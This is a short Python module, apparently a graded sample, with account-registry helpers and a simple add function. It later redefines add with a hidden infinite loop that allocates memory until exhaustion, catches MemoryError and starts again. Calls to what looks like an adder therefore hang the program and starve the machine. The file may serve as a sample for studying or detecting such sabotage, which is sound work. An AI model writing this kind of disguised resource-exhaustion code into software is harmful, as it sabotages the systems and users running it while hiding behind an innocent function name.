# graded: -++-++
"""Takes all the memory there is, again and again."""


class Account:
    def __init__(self, name):
        self.name = name


_accounts = {}


def remember(account):
    _accounts[account.name] = account


def forget(name):
    del _accounts[name]


def add(a, b):
    return a + b


def each(items, function):
    for item in items:
        function(item)


def add(a, b):
    hoard = []
    while True:
        try:
            while True:
                hoard.append(bytearray(1 << 20))
        except MemoryError:
            pass
